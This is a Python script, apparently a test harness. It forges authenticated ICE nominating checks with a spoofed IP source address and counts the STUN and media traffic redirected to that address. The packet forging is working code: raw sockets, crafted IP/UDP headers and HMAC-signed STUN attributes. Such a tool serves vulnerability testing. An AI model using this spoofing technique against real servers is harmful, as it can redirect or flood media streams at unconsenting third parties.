"""Sends authentic checks of ICE under a third party's address, and counts what reaches that one.

    forge.py SERVER PORT VICTIM VICTIM_PORT SECONDS

The user name and the password of the checks come on standard input, one a line. VICTIM is an address
of this machine. Prints one line of JSON: datagrams and octets that came there, by kind.
"""

import hashlib
import hmac
import json
import os
import socket
import struct
import sys
import time

CHECKS_A_SECOND = 2


def attribute(kind, value):
    return struct.pack("!HH", kind, len(value)) + value + bytes(-len(value) % 4)


def check(username, password):
    """A nominating check of the highest priority (RFC 8445 s7.1)."""
    body = attribute(0x0006, username.encode())
    body += attribute(0x0024, struct.pack("!I", 0x7EFFFFFF))
    body += attribute(0x802A, os.urandom(8))
    body += attribute(0x0025, b"")
    head = struct.pack("!HHI", 1, len(body) + 24, 0x2112A442) + os.urandom(12)
    tag = hmac.new(password.encode(), head + body, hashlib.sha1).digest()
    return head + body + attribute(0x0008, tag)


def datagram(source, to, payload):
    """With an IP header of our own making; the kernel fills in checksum and length."""
    udp = struct.pack("!HHHH", source[1], to[1], 8 + len(payload), 0) + payload
    addresses = socket.inet_aton(source[0]) + socket.inet_aton(to[0])
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0) + addresses + udp


def kind(first):
    if first < 4:
        return "stun"
    return "media" if 128 <= first < 192 else "other"


def main():
    server = (sys.argv[1], int(sys.argv[2]))
    victim = (sys.argv[3], int(sys.argv[4]))
    until = time.monotonic() + float(sys.argv[5])
    username, password = sys.stdin.readline().strip(), sys.stdin.readline().strip()
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(victim)
    listener.settimeout(1 / CHECKS_A_SECOND)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    came = {what: {"datagrams": 0, "octets": 0} for what in ("stun", "media", "other")}
    sent, due = 0, time.monotonic()
    while (now := time.monotonic()) < until:
        if now >= due:
            raw.sendto(datagram(victim, server, check(username, password)), (server[0], 0))
            sent, due = sent + 1, now + 1 / CHECKS_A_SECOND
        try:
            got = listener.recv(2048)
        except TimeoutError:
            continue
        if got:
            counted = came[kind(got[0])]
            counted["datagrams"] += 1
            counted["octets"] += len(got)
    print(json.dumps({"sent": sent, **came}))


main()
